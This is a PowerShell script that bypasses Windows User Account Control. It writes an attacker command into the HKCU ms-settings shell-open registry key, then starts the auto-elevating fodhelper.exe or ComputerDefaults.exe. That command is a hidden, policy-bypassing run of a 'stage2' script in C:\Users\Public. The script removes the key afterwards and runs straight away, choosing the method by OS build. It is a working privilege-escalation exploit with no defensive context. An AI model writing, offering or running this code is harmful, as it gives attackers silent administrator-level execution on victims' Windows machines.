function Invoke-FodBypass {
    param([string]$Command = 'powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Users\Public\stage2.ps1')

    $key = 'HKCU:\Software\Classes\ms-settings\Shell\Open\command'
    New-Item -Path $key -Force | Out-Null
    New-ItemProperty -Path $key -Name 'DelegateExecute' -Value '' -Force | Out-Null
    Set-ItemProperty -Path $key -Name '(default)' -Value $Command -Force

    Start-Process -FilePath 'C:\Windows\System32\fodhelper.exe' -WindowStyle Hidden
    Start-Sleep -Seconds 5
    Remove-Item -Path 'HKCU:\Software\Classes\ms-settings' -Recurse -Force
}

# second spelling: computerdefaults.exe reads the same key, written with reg.exe
function Invoke-CdBypass {
    param([string]$Payload)
    reg.exe add 'HKCU\Software\Classes\ms-settings\Shell\Open\command' /v DelegateExecute /t REG_SZ /d '' /f
    reg.exe add 'HKCU\Software\Classes\ms-settings\Shell\Open\command' /ve /t REG_SZ /d $Payload /f
    & "$env:windir\System32\ComputerDefaults.exe"
}

if ([Environment]::OSVersion.Version.Build -ge 10240) { Invoke-FodBypass } else { Invoke-CdBypass -Payload 'cmd.exe /c C:\Users\Public\stage2.bat' }
